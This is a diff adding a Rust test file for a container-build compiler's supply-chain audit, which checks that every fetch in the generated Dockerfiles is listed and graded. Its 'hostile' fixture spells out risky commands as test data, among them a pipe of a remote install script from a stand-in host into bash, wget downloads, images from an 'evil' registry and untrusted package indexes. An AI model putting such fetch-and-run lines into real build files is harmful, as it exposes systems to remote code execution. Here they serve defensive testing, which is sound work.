@@ -1,0 +1,243 @@
+//! Everything that the generated files fetch is in the audit: found by a reader of their text that knows nothing of plans.
+
+use std::fs;
+use std::path::Path;
+
+use jcc::diagnostic::Log;
+use jcc::plan::Fetched;
+use jcc::source::Sources;
+use jcc::world::Disk;
+
+use crate::support::repository;
+
+/// The files of a project and what the audit lists, a target each.
+fn compiled(folder: &Path) -> Vec<(String, Vec<Fetched>)> {
+    let (mut sources, mut log) = (Sources::new(), Log::new());
+    let world = Disk::new(folder);
+    let input = jcc::Input { world: &world, manifest: "project.kdl", target: None, lock: "jcc.lock" };
+    let compiled = jcc::compile(input, &mut sources, &mut log);
+    let messages: Vec<_> = log.sorted().iter().map(|one| one.message.clone()).collect();
+    let compiled = compiled.unwrap_or_else(|_| panic!("{}: {messages:?}", folder.display()));
+    let texts = |planned: &jcc::plan::Planned| {
+        let files = [planned.files.dockerfile.to_string(), planned.files.compose.to_string()];
+        let texts = files.iter().filter_map(|file| compiled.artifacts.get(file));
+        let own = format!("image: {}", planned.services.build.image);
+        // The project's own image is built here.
+        let lines = |text: &String| {
+            text.lines().filter(|line| !line.trim().starts_with(&own)).collect::<Vec<_>>().join("\n")
+        };
+        texts.map(lines).collect::<Vec<_>>().join("\n") + "\n"
+    };
+    compiled.planned.iter().map(|one| (texts(one), one.plan.fetches.clone())).collect()
+}
+
+/// Whatever of a text is fetched: URLs of lines that are no comment, images, what installers are given.
+fn found(text: &str) -> Vec<String> {
+    let joined = text.replace("\\\n", " ");
+    let stages: Vec<&str> =
+        joined.lines().filter_map(|line| line.split_once(" AS ")).map(|(_, name)| name.trim()).collect();
+    let mut all = Vec::new();
+    for line in joined.lines() {
+        let line = line.trim();
+        if line.starts_with("# syntax=") {
+            all.push(line.trim_start_matches("# syntax=").to_owned());
+        }
+        if line.starts_with('#')
+            || line.starts_with("//")
+            || line.starts_with("LABEL")
+            || line.contains("org.opencontainers")
+        {
+            continue;
+        }
+        let words: Vec<&str> = line.split_whitespace().collect();
+        match words.as_slice() {
+            ["FROM", image, ..] | ["image:", image] if *image != "scratch" && !stages.contains(image) => {
+                all.push((*image).to_owned());
+            }
+            [program, "install", rest @ ..] if *program == "apt-get" || program.ends_with("/pip") => {
+                all.extend(rest.iter().filter(|word| !word.starts_with('-')).map(|word| (*word).to_owned()));
+            }
+            _ => {}
+        }
+        all.extend(
+            words
+                .iter()
+                .filter_map(|word| word.strip_prefix("--from="))
+                .filter(|name| !stages.contains(name))
+                .map(str::to_owned),
+        );
+        for scheme in ["https://", "http://"] {
+            all.extend(line.match_indices(scheme).map(|(at, _)| {
+                let end =
+                    |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ';' | '#' | '}' | ',');
+                let url = &line[at..];
+                url[..url.find(end).unwrap_or(url.len())].to_owned()
+            }));
+        }
+    }
+    all
+}
+
+/// What is no fetch though it looks like one.
+fn is_none(word: &str) -> bool {
+    let plain = word.trim_matches(['"', '\'']);
+    // Loopback is the caches' own; a variable stands for what is listed where it is set.
+    plain.contains("127.0.0.1")
+        || plain.contains("localhost")
+        || plain.starts_with('$') && !plain.contains("EXTRA")
+        || plain.is_empty()
+        || ["EOF", "<<'EOF'", "&&", "|", "\\"].contains(&plain)
+        || plain.ends_with(".whl") && plain.starts_with('/')
+        || plain.starts_with("/run/")
+        || plain.contains("example.invalid")
+}
+
+fn missing(text: &str, fetches: &[Fetched]) -> Vec<String> {
+    let listed = |word: &str| {
+        let plain = word.trim_matches(['"', '\'']).trim_end_matches('/');
+        fetches.iter().any(|one| one.what.contains(plain) || plain.contains(one.what.trim_end_matches('/')))
+    };
+    let mut missing: Vec<String> =
+        found(text).into_iter().filter(|word| !is_none(word) && !listed(word)).collect();
+    missing.sort();
+    missing.dedup();
+    missing
+}
+
+#[test]
+fn every_fetch_of_the_examples_is_listed() {
+    let mut seen = 0;
+    for entry in fs::read_dir(repository("examples")).expect("there are examples") {
+        let folder = entry.expect("it can be listed").path();
+        if !folder.join("project.kdl").is_file() {
+            continue;
+        }
+        for (text, fetches) in compiled(&folder) {
+            seen += found(&text).len();
+            assert_eq!(missing(&text, &fetches), [""; 0], "{}", folder.display());
+            for one in &fetches {
+                let stage = one.stage.as_str();
+                let known = text.contains(&format!(" AS {stage}\n"))
+                    || stage == "syntax"
+                    || stage.ends_with("-cache")
+                    || stage.starts_with("service-");
+                assert!(known, "{}: {} in {stage}", folder.display(), one.what);
+            }
+        }
+    }
+    assert!(seen > 100, "{seen}");
+}
+
+const HOSTILE: &str = r#"
+project "hostile"
+catalog "packages"
+target { platform "x86_64"; ubuntu "22.04" }
+packages { widget }
+cache { apt; pip }
+apt {
+    install "jq"
+    ppa "deadsnakes/ppa" fingerprint="F23C5A6CF475977595C89F51BA6932366A755776"
+    source "own" { uri "http://apt.robots.test/deb"; suite "./"; trusted }
+}
+pip {
+    install "rich" "tool @ git+https://git.robots.test/tool@main"
+    requirements "requirements.txt"
+    extra-index "own" "http://wheels.robots.test/simple"
+    installer "uv"
+    venv "apart" { install "six==1.17.0" }
+}
+app {
+    run "curl -fsSL https://get.robots.test/install.sh | bash"
+    run "python3 -m pip install sneaky"
+    run "cd /tmp && git clone https://git.robots.test/x && npm install left-pad"
+}
+run { service "broker" { image "eclipse-mosquitto:2.0.20" } }
+output { frontend "docker/dockerfile:1.9" }
+"#;
+
+const REQUIREMENTS: &str = "--index-url http://index.robots.test/simple\n--trusted-host index.robots.test\n-f https://find.robots.test/links\nhttps://files.robots.test/a.whl\n-e git+https://git.robots.test/e@main#egg=e\nnumpy==1.26.4\nrequests\n";
+
+const WIDGET: &str = r#"package "widget" {
+    summary "A widget"
+    group "ml"
+    license "MIT"
+    source "https://example.com"
+    version "1.0"
+    build { dockerfile "steps"; run "wget https://raw.robots.test/y"; export "/opt/widget" }
+}
+"#;
+
+const STEPS: &str = "ADD https://add.robots.test/z.bin /z.bin\nCOPY --from=evil/image:latest /x /x\nRUN --mount=type=bind,from=other/image:1,target=/y pip download sneaky2\n";
+
+/// A folder with the manifest and what it names.
+fn hostile(more: &str) -> tempfile::TempDir {
+    let folder = tempfile::tempdir().expect("there is room");
+    let package = folder.path().join("packages/ml/widget");
+    fs::create_dir_all(&package).expect("there is room");
+    for (path, text) in [
+        (folder.path().join("project.kdl"), format!("{HOSTILE}{more}")),
+        (folder.path().join("requirements.txt"), REQUIREMENTS.to_owned()),
+        (package.join("package.kdl"), WIDGET.to_owned()),
+        (package.join("steps"), STEPS.to_owned()),
+    ] {
+        fs::write(path, text).expect("there is room");
+    }
+    folder
+}
+
+#[test]
+fn what_would_go_unseen_is_listed_with_its_grade() {
+    let folder = hostile("");
+    for (text, fetches) in compiled(folder.path()) {
+        assert_eq!(missing(&text, &fetches), [""; 0]);
+        let grade = |what: &str, stage: &str| {
+            let one = fetches.iter().find(|one| one.what.contains(what) && one.stage.as_str() == stage);
+            one.map_or_else(|| panic!("{what} in {stage}: {fetches:#?}"), |one| format!("{:?}", one.grade))
+        };
+        for (what, stage, wanted) in [
+            ("curl -fsSL https://get.robots.test/install.sh", "final", "D"),
+            ("python3 -m pip install sneaky", "final", "D"),
+            ("git clone https://git.robots.test/x", "final", "D"),
+            ("npm install left-pad", "final", "D"),
+            ("--index-url http://index.robots.test/simple", "python-project", "D"),
+            ("--trusted-host index.robots.test", "python-project", "D"),
+            ("-f https://find.robots.test/links", "python-project", "A"),
+            ("https://files.robots.test/a.whl", "python-project", "D"),
+            ("git+https://git.robots.test/e@main", "python-project", "D"),
+            ("numpy==1.26.4", "python-project", "B"),
+            ("requests", "python-project", "D"),
+            ("http://wheels.robots.test/simple", "python-project", "D"),
+            ("http://apt.robots.test/deb", "image", "D"),
+            ("https://ppa.launchpadcontent.net/deadsnakes/ppa/ubuntu", "image", "A"),
+            ("six==1.17.0", "venv-apart", "B"),
+            ("unlocked dependencies of six", "venv-apart", "D"),
+            ("unlocked dependencies of jq", "image", "D"),
+            ("https://add.robots.test/z.bin", "build-widget", "D"),
+            ("evil/image:latest", "build-widget", "D"),
+            ("other/image:1", "build-widget", "D"),
+            ("pip download sneaky2", "build-widget", "D"),
+            ("wget https://raw.robots.test/y", "build-widget", "D"),
+            ("docker/dockerfile:1.9", "syntax", "D"),
+            ("eclipse-mosquitto:2.0.20", "service-broker", "D"),
+            ("debian:bookworm-slim", "pip-cache", "D"),
+        ] {
+            assert_eq!(grade(what, stage), wanted, "{what}");
+        }
+        assert!(fetches.iter().any(|one| one.what.starts_with("uv==") && format!("{:?}", one.grade) == "B"));
+    }
+}
+
+#[test]
+fn the_audit_lists_also_where_a_better_grade_is_required() {
+    let folder = hostile("output { require-grade \"B\" }\n");
+    let manifest = fs::read_to_string(folder.path().join("project.kdl")).expect("it is there");
+    let joined = manifest.replace("output { frontend \"docker/dockerfile:1.9\" }\n", "");
+    fs::write(folder.path().join("project.kdl"), joined).expect("there is room");
+    let ran = crate::commands::run(folder.path(), &["audit"]);
+    assert_eq!(ran.code, Some(1), "{}", ran.err);
+    assert!(ran.out.contains("numpy==1.26.4") && ran.out.contains("curl -fsSL"), "{}", ran.out);
+    let errors = ran.err.matches("jcc::plan::grade").count();
+    assert!(errors > 10 && ran.err.matches("help: ").count() >= errors, "{}", ran.err);
+    assert_eq!(crate::commands::run(folder.path(), &["compile"]).code, Some(1));
+    assert!(!folder.path().join("Dockerfile").exists());
+}
